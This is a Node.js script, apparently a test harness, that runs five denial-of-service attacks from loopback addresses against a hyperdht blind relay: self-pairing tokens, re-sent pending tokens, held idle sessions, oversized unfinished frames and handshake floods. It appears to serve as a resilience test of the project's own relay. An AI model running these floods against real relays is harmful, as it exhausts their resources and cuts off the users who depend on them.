// Hostile-but-valid peers against a blind relay (issue #13's attacks), from many loopback addresses.
// usage: node js/relay_attack.js '<json>'   json: {bootstrap, relay, attack, hosts: ["127.0.0.2", ...], ...}
// Every peer is a real hyperdht connection (its own key pair) from a DHT node bound to one of `hosts`,
// speaking blind-relay through npm blind-relay's Client channel; only the messages are hostile:
//   selfpair   {sessions, pairs}: each session pairs `pairs` fresh tokens with itself (both sides),
//              sent as raw `pair` messages, never sending a packet on the "streams"
//   pending    {sessions, pairs, interval}: each session sends `pairs` pending tokens and re-sends
//              the same ones every `interval` ms (a token the relay dropped comes right back)
//   hold       {sessions}: open sessions and hold them with keep-alives only
//   bigframe   {sessions, frame, send}: each session announces a `frame`-byte secret-stream frame on
//              its raw stream and sends `send` bytes of it, never completing it
//   handshakes {rate, seconds}: valid handshakes at `rate`/s spread over the hosts for `seconds`,
//              each connection held (the relay decides what to keep); ready as soon as it starts
// Prints {"ready": true, "opened": n, "closed": n, "sent": n} once the attack is in place, then keeps
// it up (re-sending, reconnecting nothing) until stdin closes; on exit prints a final
// {"done": true, "opened": n, "closed": n} line (closed = connections the relay ended).
const DHT = require('hyperdht')
const relay = require('blind-relay')
const id = require('hypercore-id-encoding')
const b4a = require('b4a')

const opts = JSON.parse(process.argv[2])
const bootstrap = opts.bootstrap.map((b) => typeof b === 'string' ? b : `${b.host}:${b.port}`)
const relayKey = id.decode(opts.relay)
const hosts = opts.hosts || ['127.0.0.2']
const sessions = opts.sessions || 1
const counts = { opened: 0, closed: 0, sent: 0, failed: 0 }
const sockets = []
const timers = []

function rid () { return (Math.random() * 0xffffffff) >>> 0 }

async function open (node) {
  const socket = node.connect(relayKey, { keyPair: DHT.keyPair() })
  socket.on('error', () => {})
  sockets.push(socket)
  socket.once('close', () => { if (socket._opened) counts.closed++ })
  await new Promise((resolve, reject) => {
    socket.once('open', () => { socket._opened = true; counts.opened++; resolve() })
    socket.once('close', () => reject(new Error('closed before open')))
  })
  return socket
}

function channel (socket) {
  const client = relay.Client.from(socket, { id: socket.publicKey })
  client.on('error', () => {})
  return client
}

function send (client, isInitiator, token) {
  if (client.closed) return
  client._pair.send({ isInitiator, token, id: rid(), seq: 0 })
  counts.sent++
}

async function main () {
  const nodes = await Promise.all(hosts.map(async (host) => {
    const node = new DHT({ bootstrap, ephemeral: true, quickFirewall: false, host, port: [0, 0] })
    await node.fullyBootstrapped()
    return node
  }))
  const attack = opts.attack
  if (attack === 'handshakes') {
    const rate = opts.rate || 100
    const end = Date.now() + (opts.seconds || 5) * 1000
    let i = 0
    const t = setInterval(() => {
      if (Date.now() >= end) { clearInterval(t); return }
      for (let k = 0; k < Math.max(1, Math.round(rate / 20)); k++) {
        open(nodes[i++ % nodes.length]).catch(() => { counts.failed++ })
      }
    }, 50)
    timers.push(t) // ready at once: the flood goes on for `seconds` while the caller measures
  } else {
    await Promise.all(Array.from({ length: sessions }, async (_, s) => {
      let socket
      try {
        socket = await open(nodes[s % nodes.length])
      } catch {
        counts.failed++
        return
      }
      if (attack === 'bigframe') {
        const frame = opts.frame || (16 * 1024 * 1024 - 1)
        const head = b4a.alloc(3)
        head[0] = frame & 0xff; head[1] = (frame >> 8) & 0xff; head[2] = (frame >> 16) & 0xff
        socket.rawStream.write(head)
        let left = opts.send || 1024 * 1024
        while (left > 0) {
          const n = Math.min(left, 60000)
          socket.rawStream.write(b4a.alloc(n, 0x41))
          counts.sent += n
          left -= n
        }
        return
      }
      const client = channel(socket)
      await new Promise((resolve) => client.once('open', resolve).once('close', resolve))
      if (attack === 'selfpair') {
        for (let i = 0; i < (opts.pairs || 100); i++) {
          const token = relay.token()
          send(client, true, token)
          send(client, false, token)
          if (i % 50 === 49) await new Promise((resolve) => setImmediate(resolve))
        }
      } else if (attack === 'pending') {
        const tokens = Array.from({ length: opts.pairs || 64 }, () => relay.token())
        const burst = () => { for (const t of tokens) send(client, true, t) }
        burst()
        timers.push(setInterval(burst, opts.interval || 2000))
      }
      // 'hold': nothing more; hyperdht's keep-alives hold the connection
    }))
  }
  await new Promise((resolve) => setTimeout(resolve, 200)) // let the writes leave
  process.stdout.write(JSON.stringify({ ready: true, ...counts }) + '\n')
  const stop = async () => {
    for (const t of timers) clearInterval(t)
    process.stdout.write(JSON.stringify({ done: true, ...counts }) + '\n')
    for (const s of sockets) s.destroy()
    await Promise.all(nodes.map((n) => n.destroy()))
    process.exit(0)
  }
  process.stdin.on('end', stop)
  process.stdin.resume()
}

main().catch((err) => { console.error(err); process.exit(1) })
